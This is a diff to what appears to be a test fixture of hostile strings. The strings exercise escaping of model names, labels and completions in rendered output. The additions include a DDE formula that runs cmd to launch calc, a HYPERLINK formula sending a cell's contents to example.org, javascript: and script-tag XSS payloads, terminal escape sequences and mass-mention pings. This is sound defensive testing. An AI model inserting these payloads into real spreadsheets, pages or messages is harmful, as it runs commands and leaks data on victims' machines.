@@ -115,18 +115,26 @@ HOSTILE = (
     "א" * 40,
     "&lt;b&gt; &amp;",
     "\ufeff\u2028\uffff",
+    '=HYPERLINK("http://example.org/?q="&A1,"win")',
+    "[x](javascript:alert(8)) ![y](http://example.org/z.png) | `**@everyone** <!-- #1",
+    "\x1b]8;;http://example.org\x07link\x1b]8;;\x07\x1b[2J\r",
+    "javascript:alert(9)",
 )
+FORMULA = "=cmd|'/c calc'!A0"
+MENTION = "@here [x](javascript:alert(7)) `|` www.example.org"
 
 
 def hostile_rows() -> list[dict[str, Any]]:
     """Names, inputs and completions that try to be markup, templates, control characters or very long."""
     rows = []
-    for model in (SCRIPT, "[bold red]m[/] \x1b[2J\x00", "plain"):
+    for model in (SCRIPT, "[bold red]m[/] \x1b[2J\x00", "plain", FORMULA, MENTION):
         for variant in range(9):
             for sample, words in enumerate(HOSTILE):
                 completion = ("yes", "no", words)[(variant + sample) % 3]
                 if (model, variant, sample) == ("plain", 3, 0):
                     completion = "<b>" + "x" * 10_000_000
+                if (model, variant, sample) == (MENTION, 3, 1):
+                    completion = "\x1b[31m" + "z" * 1_000_000
                 rows.append(
                     {"model": model, "strategy": "<i onclick=alert(4)>", "variant_index": variant, "repetition": 1,
                      "sample_id": f'"><script>alert({sample})</script>', "gold_label": ("yes", SCRIPT)[sample % 2],
@@ -136,4 +144,4 @@ def hostile_rows() -> list[dict[str, Any]]:
     return rows
 
 
-HOSTILE_LABELS = ("yes", "no", SCRIPT)
+HOSTILE_LABELS = ("yes", "no", SCRIPT, "@SUM(1+1)*cmd")
